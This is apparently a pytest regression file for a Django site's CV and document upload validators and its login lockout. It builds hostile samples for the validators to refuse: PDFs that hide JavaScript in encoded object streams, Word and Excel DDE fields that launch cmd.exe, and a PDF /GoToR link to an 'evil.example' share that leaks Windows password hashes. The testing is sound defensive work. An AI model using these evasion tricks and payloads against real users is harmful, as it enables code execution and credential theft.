"""Attacks found by reviewing issue 10 against what the site does, kept as regressions."""

import base64
import io
import zipfile
import zlib

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation

from experts.cv import validate_cv
from programmes.validators import validate_document_file
from tests.programmes_data.factories import xlsx_bytes
from tests.test_hostile_uploads import code_of, pdf_with
from tests.upload_files import docx_members, pdf_stream, zip_bytes

LOGIN = "/en/admin/login/?next=/en/admin/"
ATTACKER = "198.51.100.66"


def _sign_in(username, password, address=ATTACKER):
    client = Client(REMOTE_ADDR=address)
    return client.post(LOGIN, {"username": username, "password": password, "next": "/en/admin/"})


@pytest.fixture
def two_staff(db):
    users = get_user_model().objects
    return {
        name: users.create_user(name, password=f"{name}-correct-horse", is_staff=True)
        for name in ["manager", "editor"]
    }


def test_signing_in_to_ones_own_account_does_not_wipe_guesses_at_another(two_staff, settings):
    """An editor guessing the manager's password from their desk, signing in as themselves
    before the limit, must not start the count again: a success forgets only the failures of
    the account that signed in, from that address."""
    for _round in range(3):
        for _ in range(settings.AXES_FAILURE_LIMIT // 2):
            response = _sign_in("manager", "guess")
            if response.status_code == 429:
                break
            assert response.status_code == 200
        _sign_in("editor", "editor-correct-horse")
    # Three rounds of half the limit are more than the limit: the manager's account is locked,
    # and so is the address that guessed.
    assert _sign_in("manager", "manager-correct-horse", "203.0.113.5").status_code == 429
    assert _sign_in("editor", "editor-correct-horse").status_code == 429


def test_a_person_who_mistyped_then_signed_in_starts_afresh(two_staff, settings):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _sign_in("manager", "typo").status_code == 200
    assert _sign_in("manager", "manager-correct-horse").status_code == 302
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _sign_in("manager", "typo").status_code == 200
    assert _sign_in("manager", "manager-correct-horse").status_code == 302


# PDFs whose dictionaries hide in an object stream the check cannot read as text


def _png_up_rows(data, columns):
    """`data` filtered as PNG rows of `columns` bytes, each the difference from the one above
    (Predictor 12), so that no name can be read after Flate unpacks it."""
    rows, previous = [], bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start : start + columns].ljust(columns, b" ")
        rows.append(b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous, strict=True)))
        previous = row
    return b"".join(rows)


def _object_stream(encoded, filters):
    return b"<< /Type /ObjStm /N 1 /First 4 /Length %d %s>>\nstream\n%s\nendstream" % (
        len(encoded),
        filters,
        encoded,
    )


SCRIPT_OBJECT = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"
HIDDEN_SCRIPT_PDFS = {
    "hex-encoded object stream": _object_stream(
        SCRIPT_OBJECT.hex().encode() + b">", b"/Filter /ASCIIHexDecode "
    ),
    "ASCII85 object stream": _object_stream(
        base64.a85encode(SCRIPT_OBJECT) + b"~>", b"/Filter /ASCII85Decode "
    ),
    "abbreviated filter in an array": _object_stream(
        SCRIPT_OBJECT.hex().encode() + b">", b"/Filter [/AHx] "
    ),
    "filter named with #xx escapes": _object_stream(
        SCRIPT_OBJECT.hex().encode() + b">", b"/Filter /ASCIIHex#44ecode "
    ),
    "filter given by reference": _object_stream(
        SCRIPT_OBJECT.hex().encode() + b">", b"/Filter 9 0 R "
    ),
    "Flate after a PNG predictor": _object_stream(
        zlib.compress(_png_up_rows(SCRIPT_OBJECT, 8)),
        b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >> ",
    ),
}


@pytest.mark.parametrize("case", sorted(HIDDEN_SCRIPT_PDFS))
def test_scripts_in_an_object_stream_the_check_cannot_read_are_refused(case):
    data = pdf_with(HIDDEN_SCRIPT_PDFS[case])
    assert code_of(validate_cv, "cv.pdf", data) == "pdf_unreadable_objects"
    assert code_of(validate_document_file, "form.pdf", data) == "pdf_unreadable_objects"


@pytest.mark.parametrize(
    "data",
    [
        pdf_with(pdf_stream(b"1 0 << /Title (CV) >>", dictionary=b"/Type /ObjStm /N 1 ")),
        # A cross-reference stream with a predictor, as most producers write it.
        pdf_with(
            pdf_stream(_png_up_rows(b"\x01\x00\x10\x00", 4), dictionary=b"/Type /XRef ")[
                :-10
            ].replace(b"/FlateDecode", b"/FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>")
            + b"endstream"
        ),
        # Pictures in other filters are not object streams.
        pdf_with(
            b"<< /Subtype /Image /Length 4 /Filter /ASCIIHexDecode >>\nstream\nff00>\nendstream"
        ),
    ],
)
def test_object_streams_in_flate_and_other_streams_in_any_filter_are_accepted(data):
    validate_cv(SimpleUploadedFile("cv.pdf", data))
    validate_document_file(SimpleUploadedFile("form.pdf", data))


@pytest.mark.parametrize(
    ("language", "words"),
    [("en", "cannot check"), ("ar", "لا يستطيع هذا الموقع"), ("fr", "ne peut pas vérifier")],
)
def test_the_unreadable_object_stream_message_is_translated(language, words):
    data = pdf_with(HIDDEN_SCRIPT_PDFS["hex-encoded object stream"])
    with translation.override(language):
        with pytest.raises(ValidationError) as raised:
            validate_cv(SimpleUploadedFile("cv.pdf", data))
        assert words in " ".join(raised.value.messages)  # lazy: shown in the active language


# DDE fields: a Word field that starts a program when the document opens


def _docx_with_body(xml, part="word/document.xml"):
    members = docx_members()
    if part == "word/document.xml":
        members[part] = members[part].replace(b"</w:body>", xml + b"</w:body>")
    else:
        members[part] = xml
    return zip_bytes(members)


def _field(*instructions):
    runs = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % text for text in instructions)
    return (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' % runs
    )


COMMAND = rb'c:\\windows\\system32\\cmd.exe "/k calc"'
DDE_DOCUMENTS = {
    "DDEAUTO in one run": _docx_with_body(_field(b"DDEAUTO " + COMMAND)),
    "DDE split over runs": _docx_with_body(_field(b" DD", b"EAUTO " + COMMAND)),
    "DDE in a simple field": _docx_with_body(
        b'<w:p><w:fldSimple w:instr=" DDE &quot;cmd&quot; "><w:r><w:t>x</w:t></w:r>'
        b"</w:fldSimple></w:p>"
    ),
    "DDE spelt with character references": _docx_with_body(_field(b"&#68;&#x44;E " + COMMAND)),
    "DDE in CDATA under another prefix": _docx_with_body(
        b'<w:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b'<q:r><q:fldChar q:fldCharType="begin"/></q:r>'
        b"<q:r><q:instrText><![CDATA[ddeauto x]]></q:instrText></q:r></w:p>"
    ),
    "DDE after 100 KB of text, cut by a chunk": _docx_with_body(
        b"<w:p><w:r><w:t>"
        + b"a" * (64 * 1024 - 700)
        + b"</w:t></w:r></w:p>"
        + _field(b"DDEAUTO " + b"x" * 500)
    ),
}


@pytest.mark.parametrize("case", sorted(DDE_DOCUMENTS))
def test_dde_fields_are_refused_as_active_content(case):
    assert code_of(validate_cv, "cv.docx", DDE_DOCUMENTS[case]) == "macros"
    assert code_of(validate_document_file, "form.docx", DDE_DOCUMENTS[case]) == "macros"


@pytest.mark.parametrize(
    "fields",
    [
        [b" PAGE "],
        [b' HYPERLINK "https://www.sesric.org/ADDE" '],
        [b" TOC \\o ", b'"1-3" '],
        [b" MERGEFIELD Address "],
    ],
)
def test_ordinary_fields_and_the_word_instrument_are_accepted(fields):
    data = _docx_with_body(
        _field(*fields) + b"<w:p><w:r><w:t>instrument DDE instr</w:t></w:r></w:p>"
    )
    validate_cv(SimpleUploadedFile("cv.docx", data))
    validate_document_file(SimpleUploadedFile("form.docx", data))


def _xlsx_with(name, xml):
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as source:
        members = {member: source.read(member) for member in source.namelist()}
    members[name] = xml
    return zip_bytes(members)


SPREADSHEET_MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.mark.parametrize("element", [b"ddeLink", b"oleLink"])
def test_a_spreadsheet_link_to_another_program_is_refused(element):
    data = _xlsx_with(
        "xl/externalLinks/externalLink1.xml",
        b'<externalLink xmlns="%s"><%s ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        % (SPREADSHEET_MAIN, element),
    )
    assert code_of(validate_document_file, "form.xlsx", data) == "macros"


def test_a_plain_spreadsheet_is_still_a_document():
    validate_document_file(SimpleUploadedFile("form.xlsx", xlsx_bytes()))


def test_a_compressed_object_stream_after_a_lone_carriage_return_is_searched():
    """Readers accept "stream" followed by CR alone; the search must too."""
    packed = zlib.compress(SCRIPT_OBJECT)
    data = pdf_with(
        b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\r%s\nendstream"
        % (len(packed), packed)
    )
    assert code_of(validate_cv, "cv.pdf", data) == "pdf_active_content"


def test_a_pdf_opening_a_file_on_another_machine_is_refused():
    """/GoToR to \\\\host\\share sends the reader's Windows password hash to that host
    ("BadPDF", CVE-2018-4993), as the remote template of a DOCX would."""
    data = pdf_with(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")
    assert code_of(validate_cv, "cv.pdf", data) == "pdf_active_content"
    assert code_of(validate_document_file, "form.pdf", data) == "pdf_active_content"
